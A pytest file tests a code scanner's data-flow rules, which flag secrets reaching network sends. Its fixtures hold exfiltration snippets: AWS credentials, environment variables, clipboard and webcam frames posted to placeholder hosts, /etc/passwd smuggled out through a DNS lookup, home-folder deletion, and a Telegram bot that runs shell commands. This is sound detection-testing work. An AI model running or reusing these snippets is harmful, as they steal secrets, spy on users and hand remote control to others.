"""Verdicts from flows: a source reaching a sink decides, co-occurrence alone does not."""

from __future__ import annotations

import pytest

from airlock.analyzer.models import Verdict
from airlock.analyzer.scan import scan


def flow_findings(source: str, rule: str) -> list[str]:
    report = scan(source, ruleset="default")
    return [f.message for f in report.active_findings if f.rule_id == rule]


def test_the_finding_names_source_and_sink_with_lines() -> None:
    source = (
        "import requests\n"
        "key = open('/home/u/.aws/credentials').read()\n"
        "requests.post('https://x.example', data=key)\n"
    )
    (message,) = flow_findings(source, "AIR-FLOW-001")
    assert "/home/u/.aws/credentials (line 2)" in message and "requests.post" in message


@pytest.mark.parametrize(
    "source",
    [
        # through a helper's parameter and a container filled in place
        "import os, requests\nbag = {}\nbag['e'] = dict(os.environ)\n"
        "def send(x):\n    requests.post('https://x.example', json=x)\nsend(bag)\n",
        # through an attribute set in one method and read in another
        "import socket, requests\nclass A:\n    def __init__(self):\n"
        "        self.h = socket.gethostname()\n    def go(self):\n"
        "        requests.get('https://x.example', params={'h': self.h})\n",
        # through join and a generator's yield
        "import requests, pyperclip\ndef grab():\n    yield pyperclip.paste()\n"
        "requests.post('https://x.example', data=','.join(grab()))\n",
    ],
)
def test_secrets_flowing_out_block(source: str) -> None:
    assert flow_findings(source, "AIR-FLOW-001")
    assert scan(source, ruleset="default").verdict == Verdict.block


def test_negative_control_secret_beside_an_unrelated_request_is_review() -> None:
    source = (
        "import os, requests\nsnapshot = dict(os.environ)\nprint(len(snapshot))\n"
        "requests.get('https://status.example.org', timeout=5)\n"
    )
    assert flow_findings(source, "AIR-FLOW-001") == []
    assert scan(source, ruleset="default").verdict == Verdict.review


def test_a_loop_variable_is_its_own_loops() -> None:
    """Two loops reuse `name`: only the one over home feeds the delete inside it."""
    source = (
        "import os\n"
        "for d, _, names in os.walk('/tmp/scratch'):\n"
        "    for name in names:\n        os.remove(os.path.join(d, name))\n"
        "for d2, _, name_list in os.walk(os.path.expanduser('~')):\n"
        "    for name in name_list:\n        print(name)\n"
    )
    assert flow_findings(source, "AIR-FLOW-003") == []
    bad = source.replace("print(name)", "os.remove(os.path.join(d2, name))")
    assert len(flow_findings(bad, "AIR-FLOW-003")) == 1


MANY_ORIGINS = (
    "import os, socket, platform, getpass\n"
    "a = os.environ\n"
    "b = platform.node()\n"
    "c = getpass.getuser()\n"
    "d = os.uname()\n"
    "e = open('/etc/passwd').read()\n"
    "host = f'{e}.{d}.{c}.{b}.{a}'\n"
    "socket.gethostbyname(host)\n"
)


def test_a_flow_with_many_origins_names_the_same_one_in_every_process() -> None:
    """Origins are kept in source order, not by memory address: six fresh interpreters
    (each laying out the tree at other addresses) report one and the same message."""
    import subprocess
    import sys

    probe = (
        "import sys\nfrom airlock.analyzer.scan import scan\n"
        "r = scan(sys.stdin.read(), ruleset='default')\n"
        "print([f.message for f in r.active_findings if f.rule_id == 'AIR-FLOW-001'])\n"
    )
    seen = {
        subprocess.run(
            [sys.executable, "-c", probe],
            input=MANY_ORIGINS,
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for _ in range(6)
    }
    assert len(seen) == 1, seen
    assert "→ socket.gethostbyname" in next(iter(seen))


def test_data_saved_to_a_file_flows_through_it_to_the_send() -> None:
    from airlock.analyzer.models import Verdict
    from airlock.analyzer.scan import scan

    webcam = (
        "import cv2, requests\n"
        "ok, frame = cv2.VideoCapture(0).read()\n"
        "cv2.imwrite('c.jpg', frame)\n"
        "requests.post('http://198.51.100.7/up', files={'f': open('c.jpg', 'rb')})\n"
    )
    report = scan(webcam)
    flow = [f for f in report.active_findings if f.rule_id == "AIR-FLOW-001"]
    assert report.verdict == Verdict.block and len(flow) == 1
    assert "saved to c.jpg (line 2)" in flow[0].message
    # control: a resized photo and the program's own JSON saved and uploaded carry no capture
    own = (
        "import json, requests\nfrom PIL import Image\n"
        "Image.open('photo.jpg').resize((9, 9)).save('thumb.jpg')\n"
        "requests.post('https://api.example.com/u', files={'f': open('thumb.jpg', 'rb')})\n"
        "json.dump({'n': 1}, open('out.json', 'w'))\n"
        "requests.post('https://api.example.com/d', data=open('out.json').read())\n"
    )
    assert "AIR-FLOW-001" not in {f.rule_id for f in scan(own).active_findings}


def test_a_chat_or_web_handler_parameter_is_remote_input() -> None:
    from airlock.analyzer.scan import scan

    def proc008(code: str) -> bool:
        return "AIR-PROC-008" in {f.rule_id for f in scan(code).active_findings}

    bot = (
        "import subprocess, telebot\nbot = telebot.TeleBot(TOKEN)\n"
        "@bot.message_handler(commands=['sh'])\n"
        "def sh(message):\n    bot.reply_to(message, subprocess.getoutput(message.text[4:]))\n"
    )
    assert proc008(bot)
    # control: a command-line tool's parameter is its own user's input, not a remote's
    cli = (
        "import subprocess, click\n@click.command()\n@click.argument('cmd')\n"
        "def sh(cmd):\n    print(subprocess.getoutput(cmd))\n"
    )
    assert not proc008(cli)
